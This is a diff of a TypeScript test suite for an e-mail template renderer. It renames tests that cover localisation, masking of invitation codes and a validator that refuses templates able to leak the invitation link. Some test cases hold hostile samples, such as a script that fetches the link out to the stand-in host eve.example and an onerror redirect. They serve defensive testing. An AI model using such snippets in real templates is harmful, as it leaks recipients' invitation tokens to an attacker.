@@ -73,7 +73,7 @@ const read = (html: string) => {
 };
 
 describe('one template for many', () => {
-  it('keeps nothing of one e-mail for the next, though they are written together', async () => {
+  it('carries nothing over from one e-mail to the next', async () => {
     const greeting = '{% assign who = who | append: contact.firstName %}{% cycle "a", "b" %} {{ who }}';
     const one = template({ subject: greeting, html: `${greeting} <a href="{{ link }}">Open</a>` });
     const names = Array.from({ length: 40 }, (_, place) => `Ada${place}`);
@@ -87,7 +87,7 @@ describe('one template for many', () => {
     );
   });
 
-  it('serves more templates and languages than are remembered', async () => {
+  it('works with more templates and languages than are cached', async () => {
     const at = async (place: number): Promise<string> =>
       (await renderMail(template({ subject: `Welcome ${place}` }), variables(), 'en')).subject;
     const places = [...Array(40).keys(), 0];
@@ -96,7 +96,7 @@ describe('one template for many', () => {
 });
 
 describe('the default e-mail', () => {
-  it.each(LANGUAGES)('says in %s what is to be done, in HTML and in text', async (language) => {
+  it.each(LANGUAGES)('explains in %s what to do, in HTML and in text', async (language) => {
     const mail = await renderMail(defaultTemplate(language), variables(), language);
     expect(mail.subject).toContain('Customer Portal');
     expect(mail.html).toContain(`<html lang="${language}" dir="ltr">`);
@@ -109,7 +109,7 @@ describe('the default e-mail', () => {
     }
   });
 
-  it('says it differently in each language', async () => {
+  it('differs in each language', async () => {
     const mails = await Promise.all(
       LANGUAGES.map((language) => renderMail(defaultTemplate(language), variables(), language))
     );
@@ -117,7 +117,7 @@ describe('the default e-mail', () => {
     expect(new Set(mails.map(({ text }) => text.split('\n').at(-2))).size).toBe(LANGUAGES.length);
   });
 
-  it.each(LANGUAGES)('says in %s when it is a reminder', async (language) => {
+  it.each(LANGUAGES)('says in %s that it is a reminder', async (language) => {
     const first = await renderMail(defaultTemplate(language), variables(), language);
     const reminder = await renderMail(defaultTemplate(language), variables({ isReminder: true }), language);
     expect(reminder.subject).toMatch(new RegExp(`^\\S.+ ${first.subject}$`));
@@ -129,7 +129,7 @@ describe('the default e-mail', () => {
     ['en', 'America/New_York', 'February 14, 2030 at 7:00 AM EST'],
     ['en-GB', 'Asia/Kolkata', '14 February 2030 at 17:30 GMT+5:30'],
     ['tlh', 'UTC', 'February 14, 2030 at 12:00 PM UTC'],
-  ])('writes in %s when the link ends, in %s', async (locale, timeZone, moment) => {
+  ])('shows in %s when the link expires, in %s', async (locale, timeZone, moment) => {
     const html = '<a href="{{ link }}">{{ expiresAt }}</a>';
     const mail = await renderMail(template({ html }), variables({ portal: { ...PORTAL, timeZone } }), locale);
     // Intl writes narrow spaces before AM and PM in some versions.
@@ -137,7 +137,7 @@ describe('the default e-mail', () => {
   });
 
   it.each(LANGUAGES)(
-    'begins its lines in %s with a capital, whatever of the name is missing',
+    'starts its lines in %s with a capital, whatever part of the name is missing',
     async (language) => {
       const nobody = { ...variables().contact, firstName: null, lastName: null, fullName: '' };
       for (const contact of [variables().contact, nobody]) {
@@ -157,7 +157,7 @@ describe('the default e-mail', () => {
     }
   );
 
-  it('leaves out what there is not', async () => {
+  it('omits missing values', async () => {
     const nobody = { ...variables().contact, firstName: null, fullName: '' };
     const mail = await renderMail(
       defaultTemplate('en'),
@@ -168,7 +168,7 @@ describe('the default e-mail', () => {
     expect(mail.text).not.toContain('message');
   });
 
-  it('carries a message of several lines, as text', async () => {
+  it('includes a multi-line message as text', async () => {
     const message = 'See you soon,\nGrace <b>&';
     const mail = await renderMail(defaultTemplate('en'), variables({ message }), 'en');
     expect(mail.text).toContain(`A message from Grace Hopper:\n${message}`);
@@ -221,12 +221,12 @@ describe('the link', () => {
     expect(read(mail.html).hrefs).toEqual([LINK]);
   });
 
-  it('may stand in several of them', async () => {
+  it('can occur in several of them', async () => {
     const html = '<a href="{{ link }}">One</a> or <a class="big" href=\'{{ link | raw }}\'>two</a>';
     expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK, LINK]);
   });
 
-  it('is the same to the letter, whatever its page is called', async () => {
+  it('is inserted unchanged, whatever the URL of its page', async () => {
     const link = `https://www.example.com/o'hara?a=1&copy=2#invitation=${CODE}`;
     const html = "<a href='{{ link }}'>One</a>";
     expect(read((await renderMail(template({ html }), variables({ link }), 'en')).html).hrefs).toEqual([
@@ -234,7 +234,7 @@ describe('the link', () => {
     ]);
   });
 
-  it('has to be there', async () => {
+  it('is required', async () => {
     await expect(renderMail(template({ html: '<p>Hello</p>' }), variables(), 'en')).rejects.toThrow(
       'html: the link is missing; put {{ link }} in the href of an a'
     );
@@ -298,7 +298,7 @@ describe('the link', () => {
       'what Outlook alone shows as text',
       '<a href="{{ link }}">x</a><!--[if gte mso 9]>{{ link }}<![endif]-->',
     ],
-  ])('may not stand in %s', async (_where, html) => {
+  ])('is refused in %s', async (_where, html) => {
     await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
       /html: the link is allowed only as the whole href of an a/
     );
@@ -314,7 +314,7 @@ describe('the link', () => {
       'a button for Outlook',
       '<!--[if mso]><a href="{{ link }}">Open</a><![endif]--><!--[if !mso]><!--><a href="{{ link }}">Open</a><!--<![endif]-->',
     ],
-  ])('may stand in %s', async (_where, html) => {
+  ])('is accepted in %s', async (_where, html) => {
     const mail = await renderMail(template({ html }), variables(), 'en');
     expect(read(mail.html).hrefs).toContain(LINK);
   });
@@ -349,7 +349,7 @@ describe('the link', () => {
     ['a question that nobody knows', '<!--[if supportFields]>x<![endif]--><a href="{{ link }}">x</a>'],
     ['a question without sense', '<!--[if mso & | IE]>x<![endif]--><a href="{{ link }}">x</a>'],
     ['a question with two senses', '<!--[if mso & IE | mso]>x<![endif]--><a href="{{ link }}">x</a>'],
-  ])('may not stand beside a conditional comment with %s', async (_what, html) => {
+  ])('is refused beside a conditional comment with %s', async (_what, html) => {
     await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
       part: 'html',
       rule: 'template.condition',
@@ -365,7 +365,7 @@ describe('the link', () => {
     '<!--[if !mso]> --><p>x</p><!-- <![endif]-->LINK',
     '<![if !mso]>LINK<![endif]><!--[if !(gte mso 16)]>x<![endif]-->',
     '<!--[if mso]><v:roundrect href="{{ link }}" style="height:40px"><w:anchorlock/><center>x</center></v:roundrect><![endif]--><!--[if !mso]><!-->LINK<!--<![endif]-->',
-  ])('may stand beside %s', async (html) => {
+  ])('is accepted beside %s', async (html) => {
     const anchor = '<a href="{{ link }}">x</a>';
     const mail = await renderMail(template({ html: html.replace('LINK', () => anchor) }), variables(), 'en');
     expect(read(mail.html).hrefs).toContain(LINK);
@@ -373,7 +373,7 @@ describe('the link', () => {
   });
 
   it.each(['<style>a[href*=a]{}</style>', '<img src="x" onerror="x">'])(
-    'may not be read in Outlook alone by %s',
+    'is refused if it can be read in Outlook alone by %s',
     async (reader) => {
       const html = `<a href="{{ link }}">x</a><!--[if mso]>${reader}<![endif]-->`;
       await expect(renderMail(template({ html }), variables(), 'en')).rejects.toMatchObject({
@@ -382,13 +382,13 @@ describe('the link', () => {
     }
   );
 
-  it('may have space around it, which no program takes for a part of it', async () => {
+  it('can have white space around it, which programs strip', async () => {
     const mail = await renderMail(template({ html: '<a href="\n {{ link }}\t">x</a>' }), variables(), 'en');
     expect(read(mail.html).hrefs.map((href) => href.trim())).toEqual([LINK]);
     expect(mail.text).toBe(`x <${LINK}>`);
   });
 
-  it('has to be there for other programs than Outlook, too', async () => {
+  it('is required for programs other than Outlook', async () => {
     const html = '<!--[if mso]><a href="{{ link }}">Open</a><![endif]-->';
     await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
       'html: the link is missing'
@@ -433,7 +433,7 @@ describe('the link', () => {
     ],
     ['a script', '<script>fetch("https://eve.example/?"+document.links[0].href)</script>'],
     ['a script in an attribute', '<img src="x" onerror="location=document.links[0].href">'],
-  ])('may not be read by %s', async (_what, html) => {
+  ])('is refused if it can be read by %s', async (_what, html) => {
     const read = renderMail(template({ html: `<a href="{{ link }}">x</a>${html}` }), variables(), 'en');
     await expect(read).rejects.toMatchObject({ part: 'html', rule: 'template.reads-link' });
   });
@@ -451,7 +451,7 @@ describe('the link', () => {
     expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
   });
 
-  it('may stand beside data that mail programs show', async () => {
+  it('can occur beside structured data that mail programs display', async () => {
     const html = '<script type="application/ld+json">{"a":1}</script><a href="{{ link }}">x</a>';
     expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
   });
@@ -463,7 +463,7 @@ describe('the link', () => {
       'https://eve.example/?q=&#xfeff;<a href="{{ link }}"></a>',
     ],
     ['an address in brackets that goes on', '&lt;https://eve.example/?q=<br><a href="{{ link }}">x</a>'],
-  ])('may not be joined in the text of the HTML to %s', async (_what, html) => {
+  ])('is refused if the text of the HTML joins it to %s', async (_what, html) => {
     await expect(renderMail(template({ html }), variables(), 'en')).rejects.toThrow(
       'html: the link must stand alone'
     );
@@ -492,14 +492,14 @@ describe('the link', () => {
         { html: `<${name}><!-- </${name}><a href="{{ link }}">x</a><!-- -->` },
       ]
     ),
-  ])('has to be in the %s, unlike in %s', async (part, _what, more) => {
+  ])('is required in the %s, unlike in %s', async (part, _what, more) => {
     await expect(renderMail(template(more), variables(), 'en')).rejects.toMatchObject({
       part,
       rule: 'template.link-missing',
     });
   });
 
-  it('may not stand in the subject', async () => {
+  it('is refused in the subject', async () => {
     await expect(renderMail(template({ subject: 'Open {{ link }}' }), variables(), 'en')).rejects.toThrow(
       'subject: the link is not allowed in the subject'
     );
@@ -521,9 +521,9 @@ describe('the link', () => {
     '<https://eve.example/?to=\n{{ link }}>',
     '{{ link }}/more',
     '{{ link }}{{ link }}',
-  ])('may not be joined to anything in the text: %j', async (text) => {
+  ])('is refused if joined to anything in the text: %j', async (text) => {
     await expect(renderMail(template({ text }), variables(), 'en')).rejects.toThrow(
-      'text: the link has to stand'
+      'text: the link must stand'
     );
   });
 
@@ -553,7 +553,7 @@ describe('the link', () => {
     expect(pieces(shown)).toEqual([]);
   });
 
-  it('is good in a page address with an anchor behind the query, too', async () => {
+  it('works in a page URL with a fragment after the query', async () => {
     const link = `https://www.example.com/?invitation=${CODE}#/sign-up`;
     const mail = await renderMail(template(), variables({ link }), 'en');
     expect(read(mail.html).hrefs).toEqual([link]);
@@ -561,21 +561,21 @@ describe('the link', () => {
   });
 });
 
-describe('the bodies that are kept', () => {
-  it.each(LANGUAGES)('hold no code, in %s', async (language) => {
+describe('the stored bodies', () => {
+  it.each(LANGUAGES)('contain no code, in %s', async (language) => {
     const mail = await renderMail(defaultTemplate(language), variables(), language);
     expect(mail.html + mail.text).toContain(CODE);
     expect(mail.masked.html + mail.masked.text).not.toContain(CODE);
     expect(mail.masked.text).toContain('https://www.example.com/sign-up?from=mail&lang=de#invitation=***');
   });
 
-  it('are otherwise what was sent', async () => {
+  it('are otherwise identical to what was sent', async () => {
     const mail = await renderMail(defaultTemplate('en'), variables(), 'en');
     expect(mail.masked.html).toBe(mail.html.replaceAll(CODE, '***'));
     expect(mail.masked.text).toBe(mail.text.replaceAll(CODE, '***'));
   });
 
-  it('hold no code that somebody pasted into the message', async () => {
+  it('contain no code that was pasted into the message', async () => {
     const message = `Use https://www.example.com/#invitation=${'b'.repeat(43)}`;
     const mail = await renderMail(defaultTemplate('en'), variables({ message }), 'en');
     expect(mail.masked.html + mail.masked.text).not.toContain('b'.repeat(43));
@@ -583,7 +583,7 @@ describe('the bodies that are kept', () => {
 });
 
 describe('a text', () => {
-  it('is made of the HTML if the template has none', async () => {
+  it('is generated from the HTML if the template has none', async () => {
     const html = '<h1>Hello</h1><p>Tom &amp; Ada</p><a href="{{ link }}">Open</a>';
     const { text, masked } = await renderMail(template({ html }), variables(), 'en');
     expect(text).toContain('Tom & Ada');
@@ -602,7 +602,7 @@ describe('a text', () => {
 
 describe('a template', () => {
   it.each(['{{ nothing }}', '   ', '\u200b{% if isReminder %}Reminder{% endif %}'])(
-    'has a subject that says something, unlike %j',
+    'needs a visible subject, unlike %j',
     async (subject) => {
       await expect(renderMail(template({ subject }), variables(), 'en')).rejects.toMatchObject({
         part: 'subject',
@@ -611,7 +611,7 @@ describe('a template', () => {
     }
   );
 
-  it('has a subject of one line', async () => {
+  it('produces a single-line subject', async () => {
     const { subject } = await renderMail(template({ subject: 'Welcome,\r\n Ada\n' }), variables(), 'en');
     expect(subject).toBe('Welcome,  Ada');
   });
@@ -622,7 +622,7 @@ describe('a template', () => {
     }
   });
 
-  it('reaches nothing but what it is given', async () => {
+  it('has access to its variables alone', async () => {
     const html = '<a href="{{ link }}">{{ contact.constructor.name }}{{ portal.__proto__ }}{{ process }}</a>';
     expect(read((await renderMail(template({ html }), variables(), 'en')).html).text).toBe('');
   });
@@ -631,14 +631,14 @@ describe('a template', () => {
     ['subject', '{{ contact.firstName'],
     ['html', '{% if %}'],
     ['text', '{{ x | no_such_filter: }'],
-  ])('that is not right is refused, with the part: %s', async (part, source) => {
+  ])('is refused with the part if it is invalid: %s', async (part, source) => {
     const broken = renderMail(template({ [part]: source }), variables(), 'en');
     await expect(broken).rejects.toThrow(TemplateError);
     await expect(broken).rejects.toThrow(new RegExp(`^${part}: `));
   });
 });
 
-describe('an e-mail that is broken off', () => {
+describe('an e-mail that exceeds a limit', () => {
   const busy = { render: async () => Promise.resolve('overrun' as const) };
   const thrownFor = async (purpose: RenderPurpose): Promise<Error> =>
     createRenderMail(busy, purpose)({ template: template(), locale: 'en' }, variables()).then(
@@ -646,13 +646,13 @@ describe('an e-mail that is broken off', () => {
       (error: unknown) => error as Error
     );
 
-  it('is tried again where it is sent: another time the machine may be less busy', async () => {
+  it('is retried in sending, because the machine may be less busy later', async () => {
     const error = await thrownFor('send');
     expect(error.message).toBe('html: takes too much time or memory');
     expect(isPermanent(error)).toBe(false);
   });
 
-  it('is refused where it is judged', async () => {
+  it('is refused in validation', async () => {
     expect(await thrownFor('judge')).toMatchObject({ part: 'html', rule: 'template.too-costly' });
   });
 });
@@ -701,7 +701,7 @@ describe('templateFor', () => {
     expect(templateFor(portal, wanted)).toEqual({ template: defaultTemplate(language), locale });
   });
 
-  it("is in the portal's language where there is none in the contact's", () => {
+  it("falls back to the portal's language", () => {
     expect(templateFor({ ...portal, defaultLocale: 'de-CH' }, 'ar')).toEqual({
       template: own.de,
       locale: 'de-CH',
